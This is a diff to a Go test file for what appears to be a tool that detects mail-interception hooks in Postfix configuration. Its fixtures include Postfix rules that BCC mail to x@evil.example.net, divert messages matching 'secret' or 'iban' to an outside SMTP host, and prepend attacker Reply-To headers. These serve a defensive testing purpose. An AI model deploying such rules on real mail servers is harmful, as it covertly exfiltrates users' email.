@@ -72,11 +72,11 @@ func TestHookFamilies(t *testing.T) {
 			"/etc/postfix/main.cf:sender_bcc_maps:1 | map | table inline:{ {a@example.test = x@evil.example.net}, b@example.test=root } | copy",
 			"/etc/postfix/main.cf:sender_bcc_maps:a@example.test | copy | address x@evil.example.net | copy | remote",
 			"/etc/postfix/main.cf:sender_bcc_maps:b@example.test | copy | address root | copy"}},
-		{"header checks", "header_checks = pcre:{{/^X:/ REDIRECT a@b.example}, {/^Y:/ DISCARD}}\nbody_checks = regexp:/etc/postfix/bc\n", map[string]string{"/etc/postfix/bc": "if /secret/\n/iban/\n  FILTER smtp:[203.0.113.25]:2525\nendif\n/x/ REJECT no\n/y/ ${1}\n"}, []string{
+		{"header checks", "header_checks = pcre:{{/^X:/ REDIRECT a@b.example}, {/^Y:/ DISCARD}}\nbody_checks = regexp:/etc/postfix/bc\n", map[string]string{"/etc/postfix/bc": "if /secret/\n/iban/\n  FILTER smtp:[203.0.113.25]:2525\nendif\n/x/ REJECT no\n/(y)/ ${1}\n"}, []string{
 			"/etc/postfix/main.cf:header_checks:/^X:/ | redirect | address a@b.example | divert | remote",
 			"/etc/postfix/main.cf:header_checks:/^Y:/ | discard | text DISCARD | drop",
 			"/etc/postfix/bc:body_checks:/iban/ | content_filter | host [203.0.113.25]:2525 | observe divert modify drop | remote",
-			"/etc/postfix/bc:body_checks:/y/ | redirect | text ${1} | observe copy divert modify drop"}},
+			"/etc/postfix/bc:body_checks:/(y)/ | redirect | text ${1} | observe copy divert modify drop"}},
 		{"checks on the way out", "smtp_header_checks = regexp:{{/^From:/ PREPEND Reply-To: x@evil.example}, {/a/ REDIRECT a@b.example}}\n", nil, []string{
 			"/etc/postfix/main.cf:smtp_header_checks:/^From:/ | rewrite | text Reply-To: x@evil.example | modify",
 			"/etc/postfix/main.cf:smtp_header_checks:/a/ | redirect | address a@b.example | divert | remote | inactive"}},
